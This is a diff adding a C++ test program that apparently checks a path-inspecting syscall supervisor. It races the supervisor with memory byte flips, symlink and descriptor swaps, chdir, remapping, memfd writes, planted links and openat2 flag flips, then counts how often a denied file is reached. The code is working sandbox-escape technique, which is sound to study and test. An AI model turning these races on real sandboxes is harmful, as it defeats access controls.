@@ -1,0 +1,243 @@
+// Tries to get a file it is denied past a supervisor that looks at paths, by changing what a path
+// means while the supervisor decides.
+//
+//   race_attacker KIND ATTEMPTS UNTIL_SUCCESS DIRECTORY
+//
+// DIRECTORY holds a/x, which is allowed, and b/x, which is not. Prints how often each was reached.
+
+#include <fcntl.h>
+#include <linux/openat2.h>
+#include <sched.h>
+#include <sys/mman.h>
+#include <sys/prctl.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <atomic>
+#include <cerrno>
+#include <csignal>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <functional>
+#include <string>
+#include <thread>
+#include <vector>
+
+namespace {
+
+constexpr std::size_t kPage = 4096;
+
+std::string allowed, denied, directory;
+ino_t denied_inode = 0;
+std::atomic<bool> stop{false};
+
+struct Counts {
+  long allowed = 0, denied = 0, refused = 0;
+};
+
+// A buffer in which the path can be flipped by one byte.
+char* Buffer(int flags, int fd) {
+  void* page = mmap(nullptr, kPage, PROT_READ | PROT_WRITE, flags, fd, 0);
+  if (page == MAP_FAILED) std::abort();
+  std::strcpy(static_cast<char*>(page), allowed.c_str());
+  return static_cast<char*>(page);
+}
+std::size_t FlipPlace() { return directory.size() + 1; }
+
+// What runs beside the opens until they are done.
+struct Attack {
+  std::function<int()> open_once;   // a descriptor or -errno
+  std::function<void()> interfere;  // once; called over and over
+  bool in_process = false;          // interfere from a process that shares memory, not a thread
+};
+
+int Opened(long result) { return result < 0 ? -errno : static_cast<int>(result); }
+
+Attack FlipIn(char* buffer) {
+  return {
+      .open_once = [buffer] { return Opened(syscall(SYS_openat, AT_FDCWD, buffer, O_RDONLY, 0)); },
+      .interfere = [buffer] { buffer[FlipPlace()] ^= 'a' ^ 'b'; }};
+}
+
+Attack SwapLink() {
+  static std::string link = directory + "/link", next = directory + "/next";
+  (void)symlink(allowed.c_str(), link.c_str());
+  return {
+      .open_once = [] { return Opened(syscall(SYS_openat, AT_FDCWD, link.c_str(), O_RDONLY, 0)); },
+      .interfere =
+          [] {
+            static bool turn = false;
+            turn = !turn;
+            (void)symlink((turn ? denied : allowed).c_str(), next.c_str());
+            rename(next.c_str(), link.c_str());
+          }};
+}
+
+Attack SwapDescriptor() {
+  // By open, about which the policy says nothing: b itself is not what is denied.
+  auto directory_named = [](const char* name) {
+    return static_cast<int>(syscall(SYS_open, (directory + name).c_str(), O_PATH | O_CLOEXEC));
+  };
+  static int a = directory_named("/a");
+  static int b = directory_named("/b");
+  static int used = fcntl(a, F_DUPFD_CLOEXEC, 100);
+  return {.open_once = [] { return Opened(syscall(SYS_openat, used, "x", O_RDONLY, 0)); },
+          .interfere =
+              [] {
+                static bool turn = false;
+                turn = !turn;
+                dup2(turn ? b : a, used);
+              }};
+}
+
+Attack SwapWorkingDirectory() {
+  return {.open_once = [] { return Opened(syscall(SYS_openat, AT_FDCWD, "x", O_RDONLY, 0)); },
+          .interfere =
+              [] {
+                static bool turn = false;
+                turn = !turn;
+                (void)chdir((directory + (turn ? "/b" : "/a")).c_str());
+              }};
+}
+
+Attack Remap() {
+  static char* good = Buffer(MAP_PRIVATE | MAP_ANONYMOUS, -1);
+  return {.open_once = [] { return Opened(syscall(SYS_openat, AT_FDCWD, good, O_RDONLY, 0)); },
+          .interfere =
+              [] {
+                static bool turn = false;
+                turn = !turn;
+                munmap(good, kPage);
+                (void)mmap(good, kPage, PROT_READ | PROT_WRITE,
+                           MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+                std::strcpy(good, (turn ? denied : allowed).c_str());
+              }};
+}
+
+Attack WriteMemfd() {
+  static int fd = memfd_create("path", MFD_CLOEXEC);
+  (void)ftruncate(fd, kPage);
+  char* buffer = Buffer(MAP_SHARED, fd);
+  Attack attack = FlipIn(buffer);
+  attack.interfere = [] {
+    static bool turn = false;
+    turn = !turn;
+    (void)pwrite(fd, turn ? "b" : "a", 1, static_cast<off_t>(FlipPlace()));
+  };
+  return attack;
+}
+
+// Creates a/new while somebody puts a link to b/x under that name.
+Attack PlantLink() {
+  static std::string name = directory + "/a/new";
+  return {.open_once =
+              [] {
+                return Opened(syscall(SYS_openat, AT_FDCWD, name.c_str(), O_RDWR | O_CREAT, 0600));
+              },
+          .interfere =
+              [] {
+                unlink(name.c_str());
+                (void)symlink(denied.c_str(), name.c_str());
+                unlink(name.c_str());
+              }};
+}
+
+// The structure of openat2 is memory too: write access is what is denied.
+Attack FlipFlags() {
+  static open_how how{};
+  return {
+      .open_once =
+          [] { return Opened(syscall(SYS_openat2, AT_FDCWD, allowed.c_str(), &how, sizeof how)); },
+      .interfere = [] { how.flags ^= O_RDWR; }};
+}
+
+bool IsForbidden(int fd, bool writing_is) {
+  struct stat status{};
+  if (fstat(fd, &status) < 0) std::abort();
+  bool writes = (fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY;
+  return status.st_ino == denied_inode || (writing_is && writes);
+}
+
+Attack AttackNamed(const std::string& kind) {
+  if (kind == "flip") return FlipIn(Buffer(MAP_PRIVATE | MAP_ANONYMOUS, -1));
+  if (kind == "shared_page") {
+    Attack attack = FlipIn(Buffer(MAP_SHARED | MAP_ANONYMOUS, -1));
+    attack.in_process = true;
+    return attack;
+  }
+  if (kind == "symlink") return SwapLink();
+  if (kind == "dup2") return SwapDescriptor();
+  if (kind == "chdir") return SwapWorkingDirectory();
+  if (kind == "munmap") return Remap();
+  if (kind == "memfd") return WriteMemfd();
+  if (kind == "plant") return PlantLink();
+  if (kind == "how") return FlipFlags();
+  std::fprintf(stderr, "unknown attack %s\n", kind.c_str());
+  std::exit(2);
+}
+
+// A thread, or a process that shares the memory.
+class Interferer {
+ public:
+  explicit Interferer(const Attack& attack) {
+    if (!attack.in_process) {
+      thread_ = std::thread([&attack] {
+        while (!stop) attack.interfere();
+      });
+      return;
+    }
+    process_ = fork();
+    if (process_ == 0) {
+      prctl(PR_SET_PDEATHSIG, SIGKILL);
+      while (true) attack.interfere();
+    }
+  }
+  ~Interferer() {
+    stop = true;
+    if (thread_.joinable()) thread_.join();
+    if (process_ > 0) {
+      kill(process_, SIGKILL);
+      waitpid(process_, nullptr, 0);
+    }
+  }
+
+ private:
+  std::thread thread_;
+  pid_t process_ = 0;
+};
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  if (argc != 5) return 2;
+  long attempts = std::atol(argv[2]);
+  bool until_success = std::string(argv[3]) == "until-success";
+  directory = argv[4];
+  allowed = directory + "/a/x";
+  denied = directory + "/b/x";
+  struct stat status{};
+  if (stat(denied.c_str(), &status) < 0 || chdir((directory + "/a").c_str()) < 0) return 3;
+  denied_inode = status.st_ino;
+
+  Attack attack = AttackNamed(argv[1]);
+  Counts counts;
+  {
+    Interferer interferer(attack);
+    for (long i = 0; i < attempts; ++i) {
+      int fd = attack.open_once();
+      if (fd < 0) {
+        ++counts.refused;
+        continue;
+      }
+      ++(IsForbidden(fd, argv[1] == std::string("how")) ? counts.denied : counts.allowed);
+      close(fd);
+      if (until_success && counts.denied > 0) break;
+    }
+  }
+  std::printf("reached allowed %ld, denied %ld; refused %ld\n", counts.allowed, counts.denied,
+              counts.refused);
+  return 0;
+}
